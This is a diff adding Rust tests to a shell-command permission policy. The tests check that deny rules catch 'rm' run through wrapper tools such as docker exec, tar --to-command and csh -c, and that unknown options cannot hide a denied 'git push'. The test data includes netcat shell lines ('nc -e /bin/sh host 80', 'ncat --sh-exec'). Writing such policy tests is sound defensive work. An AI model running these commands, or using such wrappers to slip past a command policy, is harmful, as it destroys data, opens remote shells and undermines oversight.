@@ -125,6 +125,40 @@ fn a_deny_sees_through_wrappers() {
 }
 
 #[test]
+fn a_deny_sees_through_tools_that_run_others() {
+    let policy = Policy::deny(&["rm *"]);
+    let lines = [
+        "pipx run --spec y rm x",
+        "uvx --from y rm x",
+        "uv tool run rm x",
+        "rustup run nightly rm x",
+        "direnv exec . rm x",
+        "mise x node@20 -- rm x",
+        "mise exec -- rm x",
+        "tox exec -- rm x",
+        "npm explore y -- rm x",
+        "docker container exec c rm x",
+        "kubectl run y --image=z -- rm x",
+        "tar xf y --to-command='rm x'",
+        "tar -I 'rm x' -xf y",
+        "split --filter='rm x' y",
+        "csh -c 'rm x'",
+    ];
+    all(&policy, Verdict::Deny, &lines);
+    all(
+        &policy,
+        Verdict::Default,
+        &[
+            "nc -z localhost 80",
+            "just build",
+            "tar --odd -xf y",
+            "gh extension list",
+            "yarn workspaces list",
+        ],
+    );
+}
+
+#[test]
 fn a_command_that_cannot_be_seen_is_asked_about() {
     let policy = Policy::deny(&["rm *"]);
     let lines = [
@@ -140,6 +174,12 @@ fn a_command_that_cannot_be_seen_is_asked_about() {
         "eval '$x'",
         "ssh host 'x $y'",
         "env -S '\"a b\" c'",
+        "nc -e /bin/sh host 80",
+        "ncat --sh-exec x host",
+        "just -c x",
+        "proot -r y x",
+        "gh extension exec y",
+        "yarn workspaces foreach run x",
     ];
     all(&policy, Verdict::Ask, &lines);
     let deep = "env ".repeat(9) + "rm x";
@@ -278,6 +318,45 @@ fn limits_only_ever_restrict() {
     let long = policy.findings(&("ls ".to_owned() + &"a".repeat(2_000_000)));
     assert_eq!(ids(&long), ["shell.too-long"]);
     assert_eq!(super::kit::worst(&long), Verdict::Deny);
+}
+
+/// Nobody knows whether an unknown option takes the next word, so both are looked at.
+#[test]
+fn an_unknown_option_hides_nothing() {
+    let policy = Policy::deny(&["git push *", "docker run *", "rm secret *"]);
+    let lines = [
+        "git --odd value push",
+        "git --odd push",
+        "git --odd status push origin",
+        "git -C . --odd x push --force",
+        "git --odd --even x push",
+        "docker --odd x run img",
+        "rm --odd x secret",
+        "rm --odd secret",
+    ];
+    all(&policy, Verdict::Deny, &lines);
+    all(
+        &policy,
+        Verdict::Default,
+        &[
+            "git status --odd push",
+            "git --odd=push status",
+            "rm x --odd secret",
+        ],
+    );
+    let policy = Policy::deny(&["git push --force *"]);
+    for line in [
+        "git --odd value push --force",
+        "git --odd status push --force",
+        "git --odd status push -f",
+    ] {
+        assert!(policy.verdict(line) >= Verdict::Ask, "{line}");
+    }
+    all(
+        &policy,
+        Verdict::Default,
+        &["git --odd=x status --force", "git status --force"],
+    );
 }
 
 #[test]
